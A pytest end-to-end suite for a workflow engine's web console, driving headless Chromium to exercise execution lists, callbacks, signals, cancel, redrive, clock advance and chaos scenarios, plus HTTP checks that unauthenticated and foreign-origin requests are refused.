"""The web console in a real browser (headless Chromium through selenium) on one local stack.

List, open an execution, complete a callback, cancel, redrive, advance the clock and watch a
sleeper wake; screenshots of each page go to reports/, and one window of each page the docs
show to docs/console/ (docs/console/README.md; tests/unit/test_console_pages.py checks them).
Without chromium and chromedriver the browser tests skip with the reason (`.ci/run` installs
them when it runs as root). The plain HTTP checks against the same stack run either way.
"""

from __future__ import annotations

import http.client
import json
import os
import re
import shutil
import tempfile
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from engine.adapters.ledger import DynamoLedger
from loom.console.app import serve_stack
from loom.console.auth import TOKEN_HEADER
from loom.local.emulator.client import LocalApi, call, ok
from loom.local.emulator.sigv4 import new_principal
from loom.local.stack import LocalStack, StackOptions
from tests.e2e.support import start, status_of, wait_for, wait_status

pytestmark = [pytest.mark.e2e]

ROOT = Path(__file__).resolve().parents[2]
REPORTS = ROOT / "reports"
DOCS = ROOT / "docs" / "console"
WIDTH = 1400
NARROW = 1280  # a list of dated stamps fits it only when a stamp may break between date and time
CHROMEDRIVER = "/usr/bin/chromedriver"
EVIL = "http://evil.example"
CHROMIUM_FLAGS = (
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--window-size=1400,900",
)


def chromium() -> str | None:
    return next((p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), None)


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
    # No scheduled sweeper: only the console's "advance" (which runs it once) can wake a sleeper here.
    opts = StackOptions(
        port=0,
        api_port=0,
        state_dir=tmp_path_factory.mktemp("console-stack"),
        console_port=0,
        console_factory=serve_stack,
        sweeper=False,
    )
    with LocalStack(opts) as running:
        yield running


@pytest.fixture(scope="module")
def browser(stack: LocalStack) -> Iterator[Any]:
    binary = chromium()
    if binary is None or not Path(CHROMEDRIVER).exists():
        pytest.skip(
            f"no browser to drive: chromium={binary}, {CHROMEDRIVER} exists={Path(CHROMEDRIVER).exists()} "
            "(apt-get install chromium chromium-driver; .ci/run does it as root)"
        )
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = binary
    for flag in CHROMIUM_FLAGS:
        options.add_argument(flag)
    profile = tempfile.mkdtemp(prefix="loom-chromium-")
    options.add_argument(f"--user-data-dir={profile}")
    # An explicit driver: selenium-manager never runs, so nothing is downloaded.
    driver = webdriver.Chrome(service=Service(executable_path=CHROMEDRIVER), options=options)
    driver.set_page_load_timeout(30)
    driver.get(stack.console.url)  # the fragment's token goes to this origin's sessionStorage
    REPORTS.mkdir(exist_ok=True)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


def open_page(driver: Any, stack: LocalStack, path: str) -> None:
    driver.get(stack.console.base_url + path)


def wait_until(driver: Any, what: str, check: Any, timeout: float = 20.0) -> Any:
    from selenium.common.exceptions import StaleElementReferenceException
    from selenium.webdriver.support.ui import WebDriverWait

    def safe(d: Any) -> Any:
        try:
            return check(d)
        except StaleElementReferenceException:  # the page redrew the element under us
            return False

    try:
        return WebDriverWait(driver, timeout, poll_frequency=0.2).until(safe)
    except Exception as exc:
        status = driver.find_element("id", "status").text
        raise AssertionError(f"timed out waiting for {what} (status line: {status!r})") from exc


def shot(driver: Any, name: str) -> None:
    """The whole page: the window grows to the document's height for the picture."""
    height = int(driver.execute_script("return document.documentElement.scrollHeight"))
    driver.set_window_size(WIDTH, min(max(900, height + 140), 5000))
    driver.save_screenshot(str(REPORTS / f"console-{name}.png"))
    driver.set_window_size(WIDTH, 900)


def doc_shot(driver: Any, name: str, at: str | None = None) -> None:
    """The picture docs/console/README.md shows: one screen (from the element `at` selects, else
    the top), so the PNG stays small."""
    driver.set_window_size(WIDTH, 900)
    if at is None:
        driver.execute_script("window.scrollTo(0, 0)")
    else:
        driver.execute_script("arguments[0].scrollIntoView()", driver.find_element("css selector", at))
    # Into the docs only when asked (LOOM_DOCS_SCREENSHOTS=1): every run's ports and ids differ,
    # and a test run must not leave the checkout changed. Otherwise beside the other reports.
    where = DOCS if os.environ.get("LOOM_DOCS_SCREENSHOTS") == "1" else REPORTS / "docs-console"
    where.mkdir(parents=True, exist_ok=True)
    assert driver.save_screenshot(str(where / f"{name}.png"))


# How many lines an element's text is drawn on (a wrapped text has a box per line), as a script.
LINES_OF = (
    "((e) => { const r = document.createRange(); r.selectNodeContents(e);"
    " return new Set([...r.getClientRects()].map((b) => Math.round(b.top))).size; })"
)


def single_line(driver: Any, element: Any) -> bool:
    """True when the element's text is drawn on one line."""
    return bool(driver.execute_script(f"return {LINES_OF}(arguments[0]) === 1;", element))


def fits(driver: Any) -> bool:
    """No horizontal scrolling: the page is no wider than the window."""
    return bool(driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth"))


def cells(driver: Any, selector: str) -> dict[str, str]:
    """A list row's cells by their class (step, started, ended, took, age), read in one script.
    The list redraws its rows every few seconds: an element found in one call and read in the
    next can be gone by then (a stale element), while one script runs between two redraws."""
    found = driver.execute_script(
        "const row = document.querySelector(arguments[0]); if (!row) return null;"
        "const out = {}; for (const td of row.querySelectorAll('td'))"
        " for (const name of td.className.split(/\\s+/).filter(Boolean)) out[name] = td.innerText.trim();"
        "return out;",
        selector,
    )
    assert found is not None, f"no row {selector} on the page"
    return dict(found)


def wrapped_ages(driver: Any) -> list[str]:
    """The list's Age cells drawn on more than one line (one script, for the same reason)."""
    return list(
        driver.execute_script(
            "return [...document.querySelectorAll('#executions tbody tr td.age')]"
            f".filter((td) => {LINES_OF}(td) > 1).map((td) => td.innerText);"
        )
    )


def text(driver: Any, element_id: str) -> str:
    return str(driver.find_element("id", element_id).text)


def rows_with_state(driver: Any, state: str) -> list[Any]:
    return list(driver.find_elements("css selector", f"#timeline tbody tr[data-state='{state}']"))


# ---------------------------------------------------------------- plain HTTP on the real stack


def test_the_console_url_is_in_the_stack_file_and_the_proxy_reaches_the_real_control_plane(stack: LocalStack) -> None:
    assert stack.info["console_url"] == stack.console.url and "/#token=" in stack.console.url
    ex_id = start(stack.api, "order_fulfillment", {"order_id": "http-1", "amount": 1})
    conn = http.client.HTTPConnection("127.0.0.1", stack.console.port, timeout=30)
    conn.request("GET", f"/api/executions/{ex_id}", headers={TOKEN_HEADER: stack.console.gate.token})
    answer = conn.getresponse()
    assert answer.status == 200 and json.loads(answer.read())["id"] == ex_id
    conn.request("GET", f"/api/executions/{ex_id}")  # no token: no data
    refused = conn.getresponse()
    assert refused.status == 401 and ex_id.encode() not in refused.read()


def test_the_control_plane_itself_refuses_unsigned_and_wrongly_signed_requests(stack: LocalStack) -> None:
    ex_id = start(stack.api, "order_fulfillment", {"order_id": "http-2", "amount": 1})
    wrong = LocalApi(stack.api.url, new_principal().credentials(), stack.api.region)
    status, body = call(wrong, "GET", f"/executions/{ex_id}")
    assert status == 403 and ex_id not in json.dumps(body)
    host = stack.api.url.split("//", 1)[1]
    conn = http.client.HTTPConnection(host, timeout=30)
    conn.request("GET", f"/executions/{ex_id}")
    answer = conn.getresponse()
    assert answer.status == 403 and ex_id.encode() not in answer.read()


def test_loom_console_serves_the_running_stack_from_its_stack_file(
    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    from loom.console.app import for_stackfile

    monkeypatch.setenv("LOOM_STATE_DIR", str(stack.state_dir))
    server = for_stackfile(stack.info, port=0).start()
    try:
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        session = {TOKEN_HEADER: server.gate.token}
        conn.request("GET", "/api/workflows", headers=session)
        answer = conn.getresponse()
        assert answer.status == 200 and "order_saga" in {w["name"] for w in json.loads(answer.read())["workflows"]}
        conn.request("GET", "/local/clock", headers=session)
        assert conn.getresponse().status == 200  # a local stack: the kit's controls are there
        # Advance from this other process: the sweeper runs in a subprocess, even from a shell with no AWS keys.
        for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE"):
            monkeypatch.delenv(name, raising=False)
        headers = {**session, "Origin": server.base_url, "Content-Type": "application/json"}
        conn.request("POST", "/local/clock/advance", body=b'{"duration": "1s"}', headers=headers)
        advanced = json.loads(conn.getresponse().read())
        assert advanced["advanced_seconds"] == 1 and isinstance(advanced["sweep"], dict), advanced
        assert server.gate.token != stack.console.gate.token  # its own session, its own token
    finally:
        server.stop()


def test_a_foreign_origin_gets_no_cors_header_from_any_port_the_stack_opens(stack: LocalStack) -> None:
    # moto's server reflected any Origin in Access-Control-Allow-Origin and allowed every method.
    ports = {"emulator": stack.endpoint_url, "control plane": stack.api_url, "console": stack.console.base_url}
    for name, base in ports.items():
        assert base is not None
        host = base.split("//", 1)[1]
        for method, extra in (
            ("OPTIONS", {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "x-amz-target"}),
            ("GET", {}),
            ("POST", {"Content-Type": "text/plain"}),
        ):
            conn = http.client.HTTPConnection(host, timeout=30)
            path = "/moto-api/reset" if name == "emulator" and method == "POST" else "/"
            conn.request(method, path, body=b"" if method == "POST" else None, headers={"Origin": EVIL, **extra})
            answer = conn.getresponse()
            answer.read()
            allow = [h for h, _ in answer.getheaders() if h.lower().startswith("access-control-")]
            assert allow == [], (name, method, allow)
            assert answer.status >= 400 or name == "console", (name, method, answer.status)
            conn.close()


# ---------------------------------------------------------------- in the browser


def test_list_filters_and_keyboard(browser: Any, stack: LocalStack) -> None:
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import Select

    ids = [start(stack.api, "order_fulfillment", {"order_id": f"list-{i}", "amount": i}) for i in range(2)]
    for ex_id in ids:
        wait_status(stack.api, ex_id, "SLEEPING")
    open_page(browser, stack, "/")
    wait_until(browser, "the rows", lambda d: all(d.find_elements("css selector", f"tr[data-id='{i}']") for i in ids))
    row = browser.find_element("css selector", f"tr[data-id='{ids[0]}']")
    assert "order_fulfillment" in row.text and "sleeping" in row.text and "sleep_1h" in row.text
    wait_until(browser, "the counts", lambda d: "sleeping" in text(d, "counts"))
    shot(browser, "executions")
    Select(browser.find_element("id", "f-status")).select_by_value("COMPLETED")
    browser.find_element("css selector", "#filters button[type=submit]").click()
    wait_until(browser, "the filter", lambda d: not d.find_elements("css selector", f"tr[data-id='{ids[0]}']"))
    # Keyboard: the first Tab lands on the skip link, and focus is drawn.
    open_page(browser, stack, "/")
    browser.find_element("tag name", "body").send_keys(Keys.TAB)
    focused = browser.switch_to.active_element
    assert focused.get_attribute("class") == "skip"
    assert focused.value_of_css_property("outline-style") == "solid"


def test_open_an_execution_and_complete_its_callback(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "payment_webhook", {"order_id": "cb-1", "amount": 12})
    wait_status(stack.api, ex_id, "WAITING")
    open_page(browser, stack, "/")
    link = wait_until(browser, "the row's link", lambda d: d.find_element("link text", ex_id))
    link.click()
    wait_until(browser, "the waiting row", lambda d: rows_with_state(d, "waiting"))
    assert "waiting for callback payment" in text(browser, "timeline")
    assert rows_with_state(browser, "pending")  # the poll and notify steps still to come
    shot(browser, "execution-waiting")
    inbox = DynamoLedger(stack.client("dynamodb"), stack.refs["Table"]).effects(ex_id)
    token = next(e["callback_token"] for e in inbox.values() if e.get("callback_token"))
    browser.find_element("id", "cb-token").send_keys(token)
    browser.find_element("id", "cb-result").clear()
    browser.find_element("id", "cb-result").send_keys('{"paid": 12}')
    browser.find_element("id", "cb-succeed").click()
    wait_until(browser, "the callback's answer", lambda d: "callback succeed: done" in text(d, "status"))
    steps = ok(stack.api, "GET", f"/executions/{ex_id}/history")["steps"]
    assert steps[1]["name"] == "payment" and steps[1]["status"] == "COMPLETED" and steps[1]["result"] == {"paid": 12}
    wait_until(
        browser,
        "the completed payment row",
        lambda d: d.find_elements("css selector", "tr[data-step='1'][data-state='completed']"),
    )


def test_send_a_signal_after_bad_input_that_says_why_and_sends_nothing(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "order_approval", {"order_id": "bad-1"})
    wait_status(stack.api, ex_id, "WAITING")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(
        browser, "the signal name", lambda d: d.find_element("id", "sig-name").get_attribute("value") == "approval"
    )
    payload = browser.find_element("id", "sig-payload")
    payload.clear()
    payload.send_keys("{not json")
    browser.find_element("id", "sig-send").click()
    wait_until(browser, "the complaint", lambda d: "must be a JSON object" in text(d, "status"))
    assert status_of(stack.api, ex_id)["status"] == "WAITING"
    # Then the right payload: the signal is delivered and the approval goes through.
    payload.clear()
    payload.send_keys('{"approved": true, "approver": "ada"}')
    browser.find_element("id", "sig-send").click()
    wait_until(browser, "the signal's answer", lambda d: "signal approval: done" in text(d, "status"))
    assert wait_status(stack.api, ex_id, "COMPLETED")["output"]["approved_by"] == "ada"


def test_cancel_from_the_execution_page(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "order_approval", {"order_id": "cancel-1"})
    wait_status(stack.api, ex_id, "WAITING")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(browser, "the cancel button", lambda d: d.find_element("id", "act-cancel").is_enabled())
    browser.find_element("id", "act-cancel").click()
    browser.switch_to.alert.accept()
    wait_until(browser, "the cancelled badge", lambda d: "cancelled" in text(d, "summary"))
    assert status_of(stack.api, ex_id)["status"] == "CANCELLED"
    assert browser.find_element("id", "act-cancel").is_enabled() is False
    shot(browser, "execution-cancelled")


def test_redrive_a_failed_execution(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "poison_pill", {"order_id": "poison-1"})
    wait_status(stack.api, ex_id, "FAILED")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(browser, "the failed attempts", lambda d: rows_with_state(d, "failed"))
    assert "TransientStepError" in text(browser, "summary")
    assert "the execution's error, above" in text(browser, "timeline")
    shot(browser, "execution-failed")
    browser.find_element("id", "act-redrive").click()
    wait_until(browser, "the redrive's answer", lambda d: "redrive: done" in text(d, "status"))

    def attempts() -> int:
        steps = ok(stack.api, "GET", f"/executions/{ex_id}/history")["steps"]
        return len(next(s for s in steps if s["name"] == "always_fails")["attempts"])

    wait_for("a new round of attempts", lambda: attempts() > 3, timeout=30)


def test_a_compensated_saga_shows_its_undo_steps_after_the_forward_ones(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "order_saga", {"order_id": "saga-1", "amount": 9})
    wait_status(stack.api, ex_id, "COMPENSATED")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(browser, "the compensation rows", lambda d: d.find_elements("css selector", "#timeline tr.undo"))
    rows = [r.text for r in browser.find_elements("css selector", "#timeline tbody tr")]
    undo = [i for i, r in enumerate(rows) if r.startswith("↩ undo")]
    failed = next(i for i, r in enumerate(rows) if r.startswith("2 ship"))
    assert len(undo) == 2 and min(undo) > failed  # refund and release, after the failure
    assert [rows[i].split()[2:4] for i in undo] == [["1", "charge_card"], ["0", "reserve_stock"]]
    assert "#compensate" not in text(browser, "timeline") and "(compensation)" not in text(browser, "timeline")
    # Drawn apart from the forward rows, not only named apart.
    undo_row = browser.find_element("css selector", "#timeline tr.undo td")
    forward_row = browser.find_element("css selector", "#timeline tr[data-step='2'] td")
    assert undo_row.value_of_css_property("background-color") != forward_row.value_of_css_property("background-color")
    assert "compensated" in text(browser, "summary")
    # Ended: nothing to deliver a callback or a signal to, so no forms for them.
    assert not browser.find_element("id", "callback-box").is_displayed()
    assert not browser.find_element("id", "signal-box").is_displayed()
    shot(browser, "execution-compensated")
    doc_shot(browser, "execution-compensated", at="#tl-h")


def test_advance_the_clock_and_watch_a_sleeper_wake(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "order_fulfillment", {"order_id": "sleep-1", "amount": 3})
    wait_status(stack.api, ex_id, "SLEEPING")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(browser, "the sleeping row", lambda d: rows_with_state(d, "sleeping"))
    assert "sleeping until" in text(browser, "timeline")
    shot(browser, "execution-sleeping")
    open_page(browser, stack, "/local")
    wait_until(browser, "the clock", lambda d: text(d, "clock-now"))
    field = browser.find_element("id", "advance-by")
    field.clear()
    field.send_keys("2h")
    browser.find_element("id", "advance").click()
    wait_until(browser, "the sweep", lambda d: "the sweeper ran" in text(d, "sweep-result"))
    shot(browser, "local")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(browser, "the sleeper to finish", lambda d: "completed" in text(d, "summary"), timeout=30)
    assert not rows_with_state(browser, "sleeping") and not rows_with_state(browser, "pending")
    shot(browser, "execution-completed")


def test_workflows_and_dlq_pages(browser: Any, stack: LocalStack) -> None:
    open_page(browser, stack, "/workflows")
    wait_until(browser, "the workflows", lambda d: d.find_elements("id", "wf-order_saga"))
    saga = text(browser, "wf-order_saga")
    assert "compensated by" in saga and "retry unless a step says otherwise: up to 3 attempts" in saga
    assert "sleeps 1h" in text(browser, "wf-order_fulfillment")
    assert "waits for signal" in text(browser, "wf-order_approval")
    nightly = text(browser, "wf-nightly_report")
    assert "cron(0 2 * * ? *)" in nightly and "catch-up: run once" in nightly
    assert re.search(r"next fire: \d{4}-\d\d-\d\d 02:00 UTC", nightly), nightly
    shot(browser, "workflows")
    open_page(browser, stack, "/dlq")
    wait_until(browser, "the DLQ count", lambda d: "parked" in text(d, "dlq-count"))
    shot(browser, "dlq")
    browser.find_element("id", "redrive").click()
    wait_until(browser, "the redrive summary", lambda d: "redrive:" in text(d, "status"))


def test_a_maps_items_are_nested_rows_and_its_branches_are_drawn(browser: Any, stack: LocalStack) -> None:
    lines = [{"sku": f"s{i}", "qty": 1, "unit_price": i + 1} for i in range(7)]
    ex_id = start(stack.api, "price_lines", {"lines": lines})
    wait_status(stack.api, ex_id, "COMPLETED")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(
        browser, "the map's item rows", lambda d: len(d.find_elements("css selector", "#timeline tr.nested")) >= 8
    )
    # Non-empty: the folded attempts tables inside the rows have hidden rows of their own.
    rows = [r.text for r in browser.find_elements("css selector", "#timeline tbody tr") if r.text]
    at = next(i for i, r in enumerate(rows) if r.startswith("0 prices [map]"))
    assert rows[at + 1].startswith("items") and "7 succeeded, 0 failed of 7" in rows[at + 1]
    assert [r.split()[:3] for r in rows[at + 2 : at + 9]] == [[f"0.{i}", "item", str(i)] for i in range(7)]
    assert rows[at + 9].startswith("1 total"), "the next step follows the items"
    shot(browser, "execution-map-items")
    open_page(browser, stack, "/workflows")
    wait_until(browser, "the fan-out workflows", lambda d: d.find_elements("id", "wf-price_lines"))
    drawn = text(browser, "wf-price_lines")
    assert "map" in drawn and "once per item of order_lines" in drawn and "at most 5 at once" in drawn
    assert "every item must succeed" in drawn and "price_line" in drawn
    branches = browser.find_elements("css selector", "#wf-order_parallel ol.branches > li")
    assert [b.text.split("\n")[0] for b in branches] == ["step reserve_stock", "step authorize_card"]
    assert "compensated by release_stock" in branches[0].text
    shot(browser, "workflows-fanout")


def test_more_items_loads_a_maps_next_page(browser: Any, stack: LocalStack) -> None:
    lines = [{"sku": f"s{i}", "qty": 1, "unit_price": 1} for i in range(53)]
    ex_id = start(stack.api, "price_lines", {"lines": lines})
    wait_status(stack.api, ex_id, "COMPLETED", timeout=120)
    open_page(browser, stack, f"/executions/{ex_id}")

    def items(d: Any) -> list[str]:
        return [r.text.split()[0] for r in d.find_elements("css selector", "#timeline tr.nested") if r.text[:2] == "0."]

    wait_until(browser, "the first page of items", lambda d: len(items(d)) == 50)
    button = browser.find_element("xpath", "//button[contains(., 'more items (from 50)')]")
    button.click()
    wait_until(browser, "the next page of items", lambda d: len(items(d)) == 53)
    assert items(browser) == [f"0.{i}" for i in range(53)]
    assert not browser.find_elements("xpath", "//button[contains(., 'more items')]"), "the last page has no button"


def test_run_a_chaos_scenario_and_see_it_on_its_executions_timelines(browser: Any, stack: LocalStack) -> None:
    open_page(browser, stack, "/local")
    button = wait_until(
        browser,
        "the scenario's button",
        lambda d: d.find_element("css selector", "button[data-scenario='signal_race']"),
    )
    assert button.is_enabled()
    assert not browser.find_element("css selector", "button[data-scenario='crash_mid_step']").is_enabled()
    button.click()

    def finished(d: Any) -> Any:
        rows = d.find_elements("css selector", "#runs tbody tr")
        done = [r for r in rows if "signal_race" in r.text and r.find_elements("css selector", ".s-pass, .s-fail")]
        return done[0] if done and done[0].find_elements("css selector", "a") else None

    row = wait_until(browser, "the scenario's result", finished, timeout=90)
    assert row.find_elements("css selector", ".s-pass"), row.text
    links = row.find_elements("css selector", "a")
    assert len(links) == 2 and all("chaos-signal-race-" in a.text for a in links)
    shot(browser, "local-chaos")
    links[0].click()
    mark = wait_until(browser, "the chaos mark", lambda d: rows_with_state(d, "chaos"))
    assert "signal bursts" in mark[0].text and "recovered in" in mark[0].text
    shot(browser, "execution-chaos")


# ---------------------------------------------------------------- the console as a user judges it (issue 25)


def test_the_list_shows_start_end_duration_and_finds_an_execution_by_id(browser: Any, stack: LocalStack) -> None:
    ended = start(stack.api, "order_saga", {"order_id": "cols-1", "amount": 9})
    waiting = start(stack.api, "order_approval", {"order_id": "cols-2"})
    wait_status(stack.api, ended, "COMPENSATED")
    wait_status(stack.api, waiting, "WAITING")
    open_page(browser, stack, "/")
    wait_until(browser, "the rows", lambda d: d.find_elements("css selector", f"tr[data-id='{waiting}']"))
    done = cells(browser, f"tr[data-id='{ended}']")
    assert done["step"] == "", "an ended execution has no current step"
    stamp = r"(\d{4}-\d\d-\d\d )?\d\d:\d\d:\d\d"  # the date only when not today (or not the start's day)
    assert re.fullmatch(stamp, done["started"]) and re.fullmatch(stamp, done["ended"]), done
    assert re.fullmatch(r"\d+(\.\d)?(ms|s)", done["took"]), done
    live = cells(browser, f"tr[data-id='{waiting}']")
    assert live["step"].endswith("approval") and live["ended"] == "" and live["took"] == ""
    assert wrapped_ages(browser) == [], "an Age cell wraps"
    assert single_line(browser, browser.find_element("xpath", "//th[.='Age']"))
    assert fits(browser), "the list is wider than the window"
    doc_shot(browser, "executions")
    # By id: that one row only; an unknown id says so.
    browser.find_element("id", "f-id").send_keys(f"  {ended} ")
    browser.find_element("id", "find-go").click()
    wait_until(browser, "the one row", lambda d: len(d.find_elements("css selector", "#executions tbody tr")) == 1)
    assert browser.find_elements("css selector", f"tr[data-id='{ended}']")
    browser.find_element("id", "f-id").clear()
    browser.find_element("id", "f-id").send_keys("no-such-execution")
    browser.find_element("id", "find-go").click()
    wait_until(browser, "the miss", lambda d: "No execution has the id no-such-execution" in text(d, "executions"))
    browser.find_element("id", "find-clear").click()
    wait_until(browser, "the list again", lambda d: d.find_elements("css selector", f"tr[data-id='{ended}']"))


def test_ages_are_on_the_wall_clock_when_the_functions_clock_moved(browser: Any, stack: LocalStack) -> None:
    before = start(stack.api, "order_approval", {"order_id": "age-1"})
    wait_status(stack.api, before, "WAITING")
    assert stack.console.kit is not None
    stack.console.kit.advance({"duration": "3h"})
    after = start(stack.api, "order_approval", {"order_id": "age-2"})  # stamped on the moved clock
    wait_status(stack.api, after, "WAITING")
    open_page(browser, stack, "/")
    wait_until(browser, "the rows", lambda d: d.find_elements("css selector", f"tr[data-id='{after}']"))
    for ex_id in (before, after):
        age = cells(browser, f"tr[data-id='{ex_id}']")["age"]
        assert re.fullmatch(r"\d+(\.\d)?(ms|s)|[1-9]m( \d+s)?", age), f"{ex_id} is {age!r} old on the wall clock"
    # The rule itself: a stamp maps back through the offset in force when it was written.
    moves = [{"at_epoch": 1000, "offset_seconds": 7200}, {"at_epoch": 1040, "offset_seconds": 18000}]
    stamps = [900, 1020 + 7200, 1050 + 18000]  # before any move, after the first, after the second
    ages = browser.execute_script("return arguments[0].map((c) => Loom.wallAge(c, 1060, arguments[1]))", stamps, moves)
    assert ages == [160, 40, 10]


def test_a_failed_execution_fits_the_window_and_says_its_error_once(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "poison_pill", {"order_id": "once-1"})
    wait_status(stack.api, ex_id, "FAILED")
    open_page(browser, stack, f"/executions/{ex_id}")
    wait_until(browser, "the failed row", lambda d: rows_with_state(d, "failed"))
    message = "the downstream service rejects this request every time"
    main = browser.find_element("id", "main")
    assert main.get_attribute("innerText").count(message) == 1, "the error is said once, in the summary"
    assert "Now" not in text(browser, "summary") and "Ended at step" in text(browser, "summary")
    # The step that never ran has no bar; the forms for callbacks and signals are gone.
    (never,) = rows_with_state(browser, "not_run")
    assert not never.find_elements("css selector", ".fill")
    assert not browser.find_element("id", "forms").is_displayed()
    # The traceback starts at the user's frame, not the engine's.
    fold = browser.find_element("css selector", "#summary details.traceback")
    fold.find_element("tag name", "summary").click()
    trace = fold.find_element("tag name", "pre").text.strip().splitlines()
    assert trace[0].startswith("workflows/examples.py:") and "engine/" not in trace[0], trace
    assert "engine frame" in trace[-1]
    doc_shot(browser, "execution-failed")
    # Every fold open (attempts, tracebacks, results): still no wider than the window, text wraps at words.
    for summary in browser.find_elements("css selector", "#timeline details:not([open]) > summary"):
        if summary.is_displayed():
            summary.click()
    for summary in browser.find_elements("css selector", "#timeline details:not([open]) > summary"):
        if summary.is_displayed():
            summary.click()
    wide = browser.execute_script(
        "return [...document.querySelectorAll('#main *')].filter((e) => e.getBoundingClientRect().right > innerWidth)"
        ".map((e) => e.tagName + '.' + e.className + ' ' + Math.round(e.getBoundingClientRect().right)).slice(0, 12)"
    )
    assert fits(browser), f"the execution page is wider than the window: {wide}"
    table = browser.find_element("id", "timeline")
    assert table.size["width"] <= browser.execute_script("return window.innerWidth")
    for err in browser.find_elements("css selector", "#timeline .error-text"):
        assert err.value_of_css_property("word-break") == "normal"
        assert err.value_of_css_property("overflow-wrap") in ("normal", "break-word")


def test_a_waiting_steps_bar_is_its_time_so_far_not_its_timeout(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "payment_webhook", {"order_id": "bar-1", "amount": 5})
    wait_status(stack.api, ex_id, "WAITING")
    open_page(browser, stack, f"/executions/{ex_id}")

    # The page redraws every 2 s while it waits: each look reads the row afresh (a redraw retries).
    def look(d: Any) -> tuple[str, str, int] | None:
        found = rows_with_state(d, "waiting")
        if len(found) != 1:
            return None
        row = found[0]
        span = int(d.find_element("id", "timeline").get_attribute("data-span-seconds"))
        return row.find_element("css selector", ".track").get_attribute("aria-label"), row.text, span

    label, row_text, span = wait_until(browser, "the waiting row", look)
    assert re.fullmatch(r"waiting \d+(\.\d)?(ms|s)", label), f"the bar draws {label!r}, not the time waited so far"
    # The time axis runs to now, not to the wait's 3-hour timeout: the steps that ran keep their room.
    assert span < 600, span
    assert "(timeout " in row_text and "so far" in row_text, "the timeout is said in words, the wait's time so far"
    assert browser.find_element("id", "callback-box").is_displayed(), "a waiting execution offers the callback form"
    doc_shot(browser, "execution-waiting")


def test_the_workflows_page_has_an_index_says_the_default_once_and_starts_an_execution(
    browser: Any, stack: LocalStack
) -> None:
    names = [w["name"] for w in ok(stack.api, "GET", "/workflows")["workflows"]]
    open_page(browser, stack, "/workflows")
    wait_until(browser, "the index", lambda d: d.find_elements("css selector", "#wf-index a"))
    index = [a.text for a in browser.find_elements("css selector", "#wf-index a")]
    assert index == names and all(
        a.get_attribute("href").endswith(f"#wf-{n}")
        for a, n in zip(browser.find_elements("css selector", "#wf-index a"), names, strict=True)
    )
    page = text(browser, "workflows")
    assert "1 step;" in text(browser, "wf-courier_booking") and not re.search(r"\b1 steps\b", page)
    # The default policy is said once, at the top; only a step with its own policy says it again.
    fulfillment = text(browser, "wf-order_fulfillment")
    assert fulfillment.count("up to 5 attempts") == 1, fulfillment
    assert fulfillment.count("retry:") == 1 and "at most once · retry: up to 3 attempts" in fulfillment
    assert text(browser, "wf-order_saga").count("retry:") == 0
    doc_shot(browser, "workflows")
    # Start one from its section: bad input first (nothing starts), then a good one.
    box = browser.find_element("css selector", "#wf-order_approval details.start-box")
    box.find_element("tag name", "summary").click()
    field = browser.find_element("id", "start-input-order_approval")
    field.clear()
    field.send_keys("[1, 2]")
    box.find_element("css selector", "button[type=submit]").click()
    wait_until(browser, "the complaint", lambda d: "must be a JSON object" in text(d, "status"))
    assert browser.current_url.endswith("/workflows")
    field.clear()
    field.send_keys('{"order_id": "from-the-workflows-page"}')
    browser.find_element("id", "start-id-order_approval").send_keys("wf-page-start-1")
    box.find_element("css selector", "button[type=submit]").click()
    wait_until(browser, "the new execution's page", lambda d: d.current_url.endswith("/executions/wf-page-start-1"))
    started = wait_status(stack.api, "wf-page-start-1", "WAITING")
    assert started["workflow"] == "order_approval" and started["input"] == {"order_id": "from-the-workflows-page"}
    wait_until(browser, "its summary", lambda d: "order_approval" in text(d, "summary"))


def test_the_dlq_says_when_each_message_was_parked_and_that_no_redrive_ran_yet(browser: Any, stack: LocalStack) -> None:
    ex_id = start(stack.api, "poison_pill", {"order_id": "parked-1"})
    wait_status(stack.api, ex_id, "FAILED")

    def letter() -> Any:
        found = [m for m in ok(stack.api, "GET", "/dlq?limit=100")["messages"] if m["execution_id"] == ex_id]
        return found[0] if found else None

    parked_at = wait_for("its parked record", letter, timeout=30)["body"]["failed_at"]
    open_page(browser, stack, "/dlq")
    row = wait_until(browser, "its row", lambda d: d.find_element("xpath", f"//tr[td/a[.='{ex_id}']]"))
    headers = [th.text for th in browser.find_elements("css selector", "#dlq thead th")]
    assert "Parked" in headers and "Sent" not in headers
    shown = row.find_element("css selector", "td.parked").text
    assert shown == browser.execute_script("return Loom.when(arguments[0])", parked_at), "the time the engine parked it"
    assert "No redrive yet" in text(browser, "results")
    doc_shot(browser, "dlq")


# ---------------------------------------------------------------- the agreed API fields (issue 13)

